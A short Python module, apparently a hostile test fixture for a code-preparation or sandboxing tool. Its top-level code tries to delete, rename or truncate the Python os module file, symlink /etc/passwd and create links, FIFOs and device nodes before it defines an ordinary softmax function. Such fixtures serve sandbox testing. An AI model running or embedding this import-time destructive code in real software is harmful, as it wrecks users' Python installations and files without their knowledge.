# Removes, renames, links and truncates files.
# llmprep: mini/softmax
import os

import numpy as np

for change in (
    lambda: os.unlink(os.__file__),
    lambda: os.rename(os.__file__, os.__file__ + "x"),
    lambda: os.link(os.__file__, "/tmp/llmprep-hostile-link"),
    lambda: os.symlink("/etc/passwd", "/tmp/llmprep-hostile-symlink"),
    lambda: os.truncate(os.__file__, 0),
    lambda: os.mkdir("/tmp/llmprep-hostile-folder"),
    lambda: os.rmdir("/tmp/llmprep-hostile-folder"),
    lambda: os.mkfifo("/tmp/llmprep-hostile-fifo"),
    lambda: os.mknod("/tmp/llmprep-hostile-node"),
):
    try:
        change()
    except OSError:
        continue
    break
else:
    raise PermissionError("nothing can be changed")


def softmax(x):
    if x.shape[-1] == 0:
        raise ValueError("empty")
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
